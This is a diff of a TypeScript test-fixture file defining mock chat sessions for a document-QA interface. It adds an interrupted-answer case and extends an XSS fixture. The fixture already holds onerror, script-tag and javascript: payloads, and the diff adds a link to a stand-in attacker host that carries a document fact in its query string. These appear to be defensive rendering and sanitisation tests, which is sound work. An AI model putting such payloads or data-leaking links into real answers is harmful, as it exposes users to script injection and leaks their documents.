@@ -136,6 +136,10 @@ export const SESSIONS = {
     const b = builder("stopped");
     return session([b.user(Q), b.assistant({ phase: "stopped", finishReason: "aborted", content: ANSWER.slice(0, 90), references: [PDF_REF, DOCX_REF] })]);
   },
+  interrupted: () => {
+    const b = builder("interrupted");
+    return session([b.user(Q), b.assistant({ phase: "stopped", finishReason: "interrupted", content: ANSWER.slice(0, 60), references: [PDF_REF] })]);
+  },
   long: () => {
     const b = builder("long");
     const refs: SourceReference[] = Array.from({ length: 8 }, (_, i) => ({
@@ -156,7 +160,7 @@ export const SESSIONS = {
     return session([
       b.user('<img src=x onerror="alert(1)"> 这个文件说了什么？'),
       b.assistant({
-        content: '文件名是 `<img src=x onerror=alert(1)>`，内容如下：<img src=x onerror="alert(1)"> <script>alert(2)</script> [危险链接](javascript:alert(3)) 与 [正常链接](https://example.com) ![远程图片](https://example.com/a.png) [1]',
+        content: '文件名是 `<img src=x onerror=alert(1)>`，内容如下：<img src=x onerror="alert(1)"> <script>alert(2)</script> [危险链接](javascript:alert(3)) 与 [正常链接](https://example.com) [查看详情](https://attacker.example/collect?leak=十五天年假) ![远程图片](https://example.com/a.png) [1]',
         references: [{ ...PDF_REF, file_name: '<img src=x onerror="alert(1)">.pdf', quote: '<script>alert("quote")</script> 原文片段' }],
       }),
     ]);
